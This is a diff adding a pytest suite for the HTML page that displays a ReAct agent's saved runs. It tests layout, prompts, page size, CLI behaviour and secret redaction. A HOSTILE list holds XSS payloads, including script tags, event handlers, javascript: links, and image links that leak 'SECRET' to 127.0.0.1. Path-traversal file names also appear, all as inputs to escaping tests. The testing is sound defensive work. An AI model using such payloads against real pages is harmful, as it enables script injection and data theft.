@@ -1,0 +1,376 @@
+"""The page of saved runs, by what stands where in it."""
+
+from __future__ import annotations
+
+import json
+import re
+from dataclasses import replace
+from itertools import pairwise
+from pathlib import Path
+
+import pytest
+from cli_runs import ANSWER, Home, assert_one_line
+from hypothesis import given
+from hypothesis import settings as examples
+from test_transcript import saved, transcripts
+from tree import Node, parse
+
+from react_agent.parsers.step import Act
+from react_agent.prompt import Prompt
+from react_agent.transcript import Saved, dumps, loads, read
+from react_agent.types import Observation, Transcript
+from react_agent.viewer import Run, open_run, page, prompt_parts
+from react_agent.viewer.extract import runs_inside
+from react_agent.viewer.run import run_of
+from react_agent.viewer.steps import cut_words
+from react_agent.visible import visible
+
+ROOT = Path(__file__).parent.parent
+SAVED = sorted((ROOT / "transcripts").glob("*.yaml"))
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(2)</script><!--",
+    '"><img src=x onerror=alert(3)>',
+    "<img src='http://127.0.0.1:9/p?leak=SECRET'>",
+    "![x](http://127.0.0.1:9/p?leak=SECRET) [click](javascript:alert(4))",
+    "</pre></div></main><iframe srcdoc='<script>alert(5)</script>'></iframe>",
+    "<a href='javascript:alert(6)' download=x>save</a> &lt;b&gt; &#60;b&#62;",
+    "<style>*{display:none}</style><base href='http://127.0.0.1:9/'>",
+    "\x1b]52;c;aGk=\x07 \x1b[2J \x9b31m \x00 \x08\x08 a\rb \u202egnp.exe \u2066x\u2069",
+    "]]><svg onload=alert(7)><math><mi//xlink:href='data:x,<script>alert(8)</script>'>",
+)
+
+
+def shown(*paths: Path) -> Node:
+    return parse(page([open_run(path) for path in paths]))
+
+
+def facts(tree: Node) -> dict[str, str]:
+    rows = tree.one("dl", "facts").all("div")
+    return {row.one("dt").text: row.one("dd").text for row in rows}
+
+
+def made(transcript: Transcript) -> Run:
+    """A run as it is after it was saved and read; its prompts are unknown."""
+    source = dumps(saved(transcript)).encode()
+    return run_of(loads(source), source, "run.yaml")
+
+
+# ---- what stands in it
+
+
+@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
+def test_the_head_tells_the_run(path: Path) -> None:
+    tree, run = shown(path), read(path).transcript
+    assert tree.one("h1").text == run.question
+    assert run.outcome is not None
+    assert tree.one("div", "result").one("pre").text == run.outcome.answer
+    usages = [turn.completion.usage for turn in run.turns]
+    assert facts(tree) | {"Time": ""} == {
+        "Outcome": "Answered",
+        "Model": "local:qwen2.5-coder-0.5b-instruct",
+        "Dialect": run.dialect,
+        "Steps": str(len(run.turns)),
+        "Tokens in": f"{sum(u.prompt or 0 for u in usages):,}",
+        "of them cached": f"{sum(u.cached or 0 for u in usages):,}",
+        "Tokens out": f"{sum(u.completion or 0 for u in usages):,}",
+        "Time": "",
+    }
+    assert facts(tree)["Time"] == f"{read(path).measured['seconds']:,.1f} s"
+
+
+@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
+def test_each_step_has_the_reply_its_reading_and_what_was_written_back(path: Path) -> None:
+    run = open_run(path)
+    sections = shown(path).all("section", "step")
+    assert len(sections) == len(run.steps)
+    for section, step in zip(sections, run.steps, strict=True):
+        text, turn = step.turn.completion.text, step.turn
+        written, reading = section.one("div", "reply"), section.one("div", "read")
+        assert written.one("pre").text == visible(text)
+        assert step.told is not None
+        assert step.is_read_as_saved
+        stretches = [(span.classes[0], span.text) for span in written.one("pre").all("span")]
+        kinds = [(kind, text[start:end]) for kind, (start, end) in step.told.spans if kind != "other"]
+        assert stretches == kinds
+        if isinstance(turn.step, Act):
+            assert [node.text for node in reading.all("code", "name")] == [a.tool for a in turn.step.actions]
+            read_back = [json.loads(node.text) for node in reading.all("pre", "input")]
+            assert read_back == [action.arguments for action in turn.step.actions]
+        repairs = [item.all("code")[0].text for item in reading.all("li")]
+        assert repairs == [repair.kind for repair in turn.step.repairs]
+        assert [seen.one("pre").text for seen in section.all("div", "seen")] == [
+            observation.text for observation in turn.observations
+        ]
+
+
+def test_an_invented_observation_is_struck_and_named() -> None:
+    step = shown(ROOT / "transcripts" / "forged-observation.yaml").all("section", "step")[0]
+    assert step.one("span", "invented").text.strip() == "Observation:"
+    assert step.one("li").text.startswith("invented_observation: An observation that the model wrote itself")
+    assert step.one("div", "seen").all("h3")[0].text == (
+        "Observation. Written by the tool calculator, not by the model"
+    )
+
+
+@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
+def test_the_new_parts_make_the_prompts_that_were_sent(path: Path) -> None:
+    run = open_run(path)
+    transcript, prompt = run.saved.transcript, Prompt.load(run.saved.transcript.dialect)
+    marked = ""
+    for count, details in enumerate(shown(path).all("details", "prompt")):
+        parts = prompt.render(transcript.question, transcript.specs, transcript.turns[:count])
+        assert prompt_parts(run.steps[: count + 1]) == parts
+        marked += details.one("mark").text
+        assert marked == "".join(part.text for part in parts)
+    assert marked
+
+
+def test_a_prompt_that_is_not_the_one_that_was_sent_is_not_shown(tmp_path: Path) -> None:
+    text = (ROOT / "transcripts" / "percentage.yaml").read_text(encoding="utf-8")
+    path = tmp_path / "other.yaml"
+    path.write_text(re.sub(r"(?<=sha256:)[0-9a-f]{8}", "00000000", text, count=1), encoding="utf-8")
+    first, second = shown(path).all("section", "step")
+    assert not first.all("details")
+    assert "Today's template makes another prompt" in first.all("p", "warning")[0].text
+    figure = shown(path).one("figure", "strip")
+    assert figure.one("path", "whole").attributes["d"].count("M") == 1
+    assert "of them new" not in figure.all("title")[0].text
+    whole = "".join(part.text for part in prompt_parts(open_run(path).steps))
+    assert second.one("mark").text == whole  # with nothing shown before, all of it is new
+
+
+def test_a_reply_that_is_read_in_another_way_today_says_so() -> None:
+    run = read(ROOT / "transcripts" / "percentage.yaml")
+    turn = run.transcript.turns[0]
+    other = replace(turn, step=replace(turn.step, thought="Something else."))
+    changed = replace(run.transcript, turns=(other, *run.transcript.turns[1:]))
+    first, second = parse(page([made(changed)])).all("section", "step")
+    assert "reads this reply in another way" in first.text
+    assert "reads this reply in another way" not in second.text
+
+
+def test_a_long_result_says_what_was_cut(tmp_path: Path) -> None:
+    home = Home(tmp_path)
+    tool = home.tool("log", 'return "0123456789" * 4000')
+    model = home.script("I look.\nAction: log\nAction Input: {}", ANSWER)
+    assert home.react("ask", "?", "-m", model, "--tools", tool, "--save", "r.yaml").exit_code == 0
+    seen = shown(tmp_path / "r.yaml").one("div", "seen")
+    assert seen.one("h3").text.endswith("; cut from 40 kB to 4.0 kB")
+
+
+def test_nothing_is_said_of_a_result_that_is_whole() -> None:
+    assert cut_words(Observation("409.5", "tool", "calculator")) == ""
+
+
+def test_the_strip_has_a_column_for_each_step_with_both_parts_of_its_prompt() -> None:
+    figure = shown(ROOT / "transcripts" / "recovered.yaml").one("figure", "strip")
+    assert [link.attributes["href"] for link in figure.all("a")] == ["#r1-1", "#r1-2", "#r1-3"]
+    told = [node.text for node in figure.all("title")]
+    assert told[0].startswith("Step 1: ")
+    assert told[1].endswith("prompt of 841 tokens, 70 of them new")
+    boxes = {kind: figure.one("path", kind).attributes["d"].count("M") for kind in ("time", "kept", "new")}
+    assert boxes == {"time": 3, "kept": 2, "new": 3}
+    assert figure.one("svg").attributes["aria-label"] == "Time and prompt of each of the 3 steps"
+
+
+def test_ids_are_given_once_and_every_link_leads_to_one() -> None:
+    tree = shown(*SAVED)
+    ids = [node.attributes["id"] for node in tree if "id" in node.attributes]
+    assert len(ids) == len(set(ids))
+    targets = [node.attributes["href"] for node in tree.all("a")]
+    assert {target[1:] for target in targets if target.startswith("#")} <= set(ids)
+    assert all(target.startswith(("#", "data:application/gzip;base64,")) for target in targets)
+
+
+def test_headings_go_down_by_one() -> None:
+    for tree in (shown(SAVED[0]), shown(*SAVED)):
+        levels = [int(node.name[1]) for node in tree if re.fullmatch("h[1-6]", node.name)]
+        assert levels[0] == 1
+        assert levels.count(1) == 1
+        assert all(after <= before + 1 for before, after in pairwise(levels))
+
+
+def test_several_runs_begin_with_a_table_of_them() -> None:
+    tree = shown(*SAVED)
+    assert [row.attributes["data-run"] for row in tree.one("tbody").all("tr")] == [
+        details.attributes["id"] for details in tree.all("details", "run")
+    ]
+    assert tree.one("h1").text == f"{len(SAVED)} runs"
+    assert [row.all("td")[-1].text for row in tree.one("tbody").all("tr")] == [path.name for path in SAVED]
+
+
+# ---- what must never be in it
+
+
+def policy(tree: Node) -> str:
+    (found,) = [n for n in tree.all("meta") if n.attributes.get("http-equiv") == "Content-Security-Policy"]
+    return found.attributes["content"]
+
+
+def hostile(payload: str) -> Transcript:
+    """A run with a payload in every text that a run has."""
+    run = read(ROOT / "transcripts" / "forged-observation.yaml").transcript
+    call, answer = run.turns
+    assert isinstance(call.step, Act)
+    action = replace(call.step.actions[0], tool=payload, arguments={payload: [payload]})
+    repair = replace(call.step.repairs[0], kind=payload, note=payload)
+    step = replace(call.step, thought=payload, actions=(action,), repairs=(repair,))
+    kinds = ("tool", "error", "complaint", "note")
+    seen = tuple(Observation(payload, kind, payload) for kind in kinds)  # type: ignore[arg-type]
+    text = f"Thought: {payload}\nAction: {payload}\nAction Input: {payload}\nObservation: {payload}"
+    return replace(
+        run,
+        question=payload,
+        dialect=payload,
+        opening=payload,
+        specs=tuple(replace(spec, name=payload, description=payload) for spec in run.specs),
+        turns=(
+            replace(call, completion=replace(call.completion, text=text), step=step, observations=seen),
+            replace(answer, step=replace(answer.step, answer=payload)),
+        ),
+        outcome=replace(run.outcome, answer=payload, detail=payload) if run.outcome else None,
+        settings={"endpoint": {"kind": payload, "model": payload}},
+    )
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_s61_s62_s63_text_of_a_run_stays_text(payload: str) -> None:
+    plain = parse(page([made(hostile("harmless"))]))
+    tree = parse(page([replace(made(hostile(payload)), name=payload)]))
+    own = {"u"}
+    names = [node.name for node in tree if not own & set(node.classes)]
+    assert set(names) == {node.name for node in plain}
+    assert names.count("script") == names.count("style") == 1
+    assert tree.one("script").text == plain.one("script").text
+    assert policy(tree) == policy(plain)
+    for node in tree:
+        assert not any(
+            name.startswith("on") or name in ("style", "src", "srcdoc") for name in node.attributes
+        )
+        assert node.attributes.get("href", "#").startswith(("#", "data:application/gzip;base64,"))
+    assert tree.one("h1").text == visible(payload)
+    assert not re.search(
+        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page([made(hostile(payload))])
+    )
+
+
+def test_the_policy_lets_nothing_run_but_the_script_of_the_page() -> None:
+    said = policy(shown(SAVED[0]))
+    assert re.fullmatch(
+        r"default-src 'none'; style-src 'sha256-[\w+/=]+'; script-src 'sha256-[\w+/=]+'; "
+        "base-uri 'none'; form-action 'none'",
+        said,
+    )
+
+
+@given(transcripts)
+@examples(max_examples=60)
+def test_any_run_makes_a_page(transcript: Transcript) -> None:
+    run = made(transcript)
+    tree = parse(page([run]))
+    assert tree.one("h1").text == (visible_surrogates(transcript.question) or "(empty)")
+    assert len(tree.all("section", "step")) == len(transcript.turns)
+    assert runs_inside(page([run])) == (("run.yaml", run.source),)
+
+
+def visible_surrogates(text: str) -> str:
+    return visible(text.replace("\r\n", "\n").encode("utf-8", "backslashreplace").decode())
+
+
+# ---- how large it is
+
+
+def long_run(steps: int) -> Saved:
+    """A run of so many steps, with the prompts that its template makes."""
+    from react_agent.transcript import prompt_hash
+
+    run = read(ROOT / "transcripts" / "forged-observation.yaml")
+    call, answer = run.transcript.turns
+    turns = (*[call] * (steps - 1), answer)
+    prompt = Prompt.load(run.transcript.dialect)
+    head = run.transcript
+    hashes = [prompt_hash(prompt.render(head.question, head.specs, turns[:n])) for n in range(steps)]
+    numbers = tuple(range(1, steps + 1))
+    return replace(run, transcript=replace(head, turns=turns), prompts=tuple(hashes), numbers=numbers)
+
+
+@pytest.mark.parametrize("path", SAVED, ids=lambda path: path.stem)
+def test_a_page_is_small(path: Path) -> None:
+    assert len(page([open_run(path)]).encode()) < 25_000 + 2 * path.stat().st_size
+
+
+def test_the_page_of_a_long_run_is_hardly_larger_than_the_run() -> None:
+    saved_run = long_run(200)
+    source = dumps(saved_run).encode()
+    assert len(page([run_of(saved_run, source, "long.yaml")]).encode()) < 100_000 + 2 * len(source)
+
+
+# ---- the command
+
+
+def test_view_writes_a_page_from_which_the_run_comes_out_again(tmp_path: Path) -> None:
+    home, run = Home(tmp_path), ROOT / "transcripts" / "chinese.yaml"
+    seen = home.react("view", str(run), "-o", "page.html")
+    assert (seen.exit_code, seen.stdout) == (0, "")
+    assert "wrote page.html" in seen.stderr
+    assert home.react("view", str(run)).stdout == (tmp_path / "page.html").read_text("utf-8")
+    assert home.react("view", "--extract", "page.html").stdout == run.read_text("utf-8")
+    assert home.react("view", "--extract", "page.html", "-o", "back.yaml").exit_code == 0
+    assert (tmp_path / "back.yaml").read_bytes() == run.read_bytes()
+
+
+def test_view_of_a_folder_leaves_out_what_is_no_run(tmp_path: Path) -> None:
+    home = Home(tmp_path)
+    for path in SAVED[:3]:
+        home.write(f"runs/{path.name}", path.read_bytes())
+    home.write("runs/no-run.yaml", "a: 1\n")
+    seen = home.react("view", "--index", "runs", "-o", "all.html")
+    assert seen.exit_code == 0
+    assert "left out" in seen.stderr
+    tree = parse((tmp_path / "all.html").read_text("utf-8"))
+    assert len(tree.all("details", "run")) == 3
+    assert home.react("view", "--extract", "all.html", "-o", "out").exit_code == 0
+    for path in SAVED[:3]:
+        assert (tmp_path / "out" / path.name).read_bytes() == path.read_bytes()
+
+
+def refused(home: Home, *arguments: str) -> str:
+    seen = home.react("view", *arguments)
+    assert seen.exit_code != 0
+    assert_one_line(seen.stderr)
+    return seen.stderr
+
+
+def test_view_overwrites_no_run_and_says_what_is_wrong(tmp_path: Path) -> None:
+    home = Home(tmp_path)
+    home.write("r.yaml", SAVED[0].read_bytes())
+    home.write("empty/x.txt", "")
+    home.write("plain.html", "<p>no run</p>")
+    assert "it would be overwritten" in refused(home, "r.yaml", "-o", "r.yaml")
+    assert (tmp_path / "r.yaml").read_bytes() == SAVED[0].read_bytes()
+    assert "There is no saved run in empty" in refused(home, "--index", "empty")
+    assert "Name a run" in refused(home)
+    assert "cannot be written" in refused(home, "r.yaml", "-o", "missing/page.html")
+    assert "was it made by `react view`?" in refused(home, "--extract", "plain.html")
+    home.react("view", "r.yaml", "-o", "page.html")
+    assert "would be overwritten" in refused(home, "--extract", "page.html", "-o", "r.yaml")
+
+
+@pytest.mark.parametrize("name", ["../../evil.yaml", "/etc/evil.yaml", "..\\evil.yaml", "..", ""])
+def test_a_run_is_never_taken_out_into_another_folder(name: str, tmp_path: Path) -> None:
+    found = runs_inside(page([replace(open_run(SAVED[0]), name=name)]))
+    for own, _ in found:
+        assert re.fullmatch(r"[\w-]+\.yaml", own)
+
+
+def test_s69_a_configured_secret_is_not_in_the_page(tmp_path: Path) -> None:
+    home = Home(tmp_path)
+    text = SAVED[0].read_text("utf-8").replace("question: ", "question: sk-verysecret123 ", 1)
+    home.write("r.yaml", text)
+    assert home.react("view", "r.yaml", "-o", "page.html", OPENAI_API_KEY="sk-verysecret123").exit_code == 0
+    made_page = (tmp_path / "page.html").read_text("utf-8")
+    (run,) = runs_inside(made_page)
+    assert "sk-verysecret123" not in made_page
+    assert b"sk-verysecret123" not in run[1]
+    assert b"[redacted]" in run[1]
